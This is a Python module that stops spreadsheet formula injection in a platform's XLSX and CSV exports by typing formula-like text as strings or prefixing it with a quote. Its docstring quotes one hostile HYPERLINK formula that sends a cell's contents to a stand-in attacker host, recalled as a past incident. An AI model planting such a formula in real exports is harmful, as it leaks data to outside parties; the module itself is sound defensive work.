"""Cells of spreadsheet exports (XLSX and CSV): text that a spreadsheet program would run as a
formula is written so that it never is (CSV / formula injection, OWASP).

Every export of the platform writes its cells through these two functions: an enterprise, a
provider or an institution names things that an operator later opens in Excel, and an institution
named ``=HYPERLINK("http://evil.example/?leak="&B2,"Open")`` once became a live link in the
lending-outcomes workbook.

- XLSX: text keeps its exact value but is typed as a string, so openpyxl (which makes any text
  starting with ``=`` a formula) writes it as a string and Excel shows it as typed.
- CSV: a file has no types; text starting with ``= + - @``, a tab or a carriage return gets a
  leading ``'``, which Excel and LibreOffice show and never evaluate.

Numbers stay numbers in both: a negative amount is not text and is not a formula (in a CSV, neither
is text that is only a signed number, such as ``-12.5`` read from a delivered file).
"""

from __future__ import annotations

import numbers
import re
from typing import TYPE_CHECKING, Any, Final

if TYPE_CHECKING:
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")
"""A text cell starting with one of these is read as a formula by Excel, LibreOffice or Sheets."""

_PLAIN_NUMBER: Final = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
"""Text that a spreadsheet reads as a number: signs, digits, a point and an exponent cannot name a
function or a cell, so "-12.5" in a CSV stays the number it is."""


def _is_number(value: object) -> bool:
    # numbers.Number covers Decimal and numpy's scalars; a bool is a flag, written as text.
    return isinstance(value, numbers.Number) and not isinstance(value, bool)


def xlsx_cell(sheet: Worksheet | WriteOnlyWorksheet, value: Any) -> Any:
    """``value`` for ``sheet.append``: text that could be a formula becomes a cell typed as a
    string (value unchanged); anything else is returned as is."""
    if not isinstance(value, str) or not value.startswith(FORMULA_START):
        return value
    from openpyxl.cell.cell import Cell

    # Row and column are placeholders that ``append`` replaces (as openpyxl's WriteOnlyCell).
    cell = Cell(sheet, row=1, column=1, value=value)
    # Set after the value: openpyxl's value setter types text starting with "=" as a formula.
    cell.data_type = "s"
    return cell


def xlsx_row(sheet: Worksheet | WriteOnlyWorksheet, values: Any) -> list[Any]:
    """A row for ``sheet.append`` with every cell passed through :func:`xlsx_cell`."""
    return [xlsx_cell(sheet, value) for value in values]


def csv_cell(value: Any) -> str:
    """``value`` as a CSV field: None is empty, numbers as written, text that could be a formula
    prefixed with ``'``."""
    if value is None:
        return ""
    if _is_number(value):
        return str(value)
    text = str(value)
    if text.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_row(values: Any) -> list[str]:
    """A row for ``csv.writer.writerow`` with every field passed through :func:`csv_cell`."""
    return [csv_cell(value) for value in values]
